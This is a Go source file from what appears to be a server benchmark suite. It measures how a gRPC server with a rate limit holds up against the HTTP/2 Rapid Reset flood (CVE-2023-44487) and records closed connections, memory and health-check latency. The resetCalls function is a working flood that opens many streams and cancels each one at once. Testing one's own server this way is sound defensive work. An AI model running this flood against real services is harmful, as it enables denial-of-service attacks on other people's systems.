package main

import (
	"bufio"
	"bytes"
	"context"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	healthv1 "google.golang.org/grpc/health/grpc_health_v1"
)

const (
	// resetConnections begin and reset up to resetStreams calls each and connect again, for resetTime.
	resetConnections, resetStreams = 24, 60_000
	resetTime                      = 10 * time.Second
	// resetPause is the time until the next attempt to connect. Without it, connecting would be the attack.
	resetPause = 10 * time.Millisecond
)

// resetFigures collects the figures of all rounds.
type resetFigures struct{ begun, closed, megabytes, slowest sample }

// resetRound attacks one server with calls that are reset as soon as they have begun (CVE-2023-44487), without a token.
// It has the rate limit, as shipped.
func (b *bench) resetRound(ctx context.Context, figures *resetFigures) error {
	return b.attacked(ctx, childSettings{Limited: true}, &figures.megabytes, &figures.slowest, func(server *child) error {
		ctx, cancel := context.WithTimeout(ctx, resetTime)
		defer cancel()
		var begun, closed atomic.Int64
		var group sync.WaitGroup
		for range resetConnections {
			group.Go(func() {
				for ctx.Err() == nil {
					sent := resetCalls(ctx, server.ready.GRPC)
					begun.Add(int64(sent))
					if sent < resetStreams && ctx.Err() == nil {
						closed.Add(1)
					}
					time.Sleep(resetPause)
				}
			})
		}
		group.Wait()
		figures.begun = append(figures.begun, float64(begun.Load()))
		figures.closed = append(figures.closed, float64(closed.Load()))
		return nil
	})
}

// resetCalls begins and resets calls on one connection. It returns how many it sent, fewer than resetStreams if the
// connection was closed. Of these, a server that closes it has not read what was on the way.
func resetCalls(ctx context.Context, address string) (sent int) {
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", address)
	if err != nil {
		return 0
	}
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
	go func() { _, _ = io.Copy(io.Discard, conn) }() // ends with the connection
	out := bufio.NewWriterSize(conn, 16<<10)
	framer := http2.NewFramer(out, nil)
	_, _ = out.WriteString(http2.ClientPreface) // the writer keeps the first error
	_ = framer.WriteSettings()
	block := resetHeader()
	for id := uint32(1); sent < resetStreams; id += 2 {
		if framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}) != nil ||
			framer.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			return sent
		}
		sent++
	}
	_ = out.Flush()
	return sent
}

// resetHeader is the header of a health check. It does not use the dynamic table, so that every call can have it.
func resetHeader() []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, field := range [][2]string{
		{":method", "POST"}, {":scheme", "http"}, {":path", healthv1.Health_Check_FullMethodName},
		{":authority", "localhost"}, {"content-type", "application/grpc"}, {"te", "trailers"},
	} {
		// A buffer has no errors.
		_ = encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1], Sensitive: true})
	}
	return block.Bytes()
}

func (f *resetFigures) rows() []row {
	memory, health := within(hostileBar, "MiB"), within(healthBar, "ms")
	return []row{
		{what: "calls sent and reset at once", value: f.begun, unit: plainNumber},
		{what: "connections that the server closed", value: f.closed, unit: plainNumber},
		{what: "memory during the resets", value: f.megabytes, unit: plainUnit("MiB"), bar: memory},
		{what: "slowest answer of /healthz during the resets", value: f.slowest, unit: plainUnit("ms"), bar: health},
	}
}
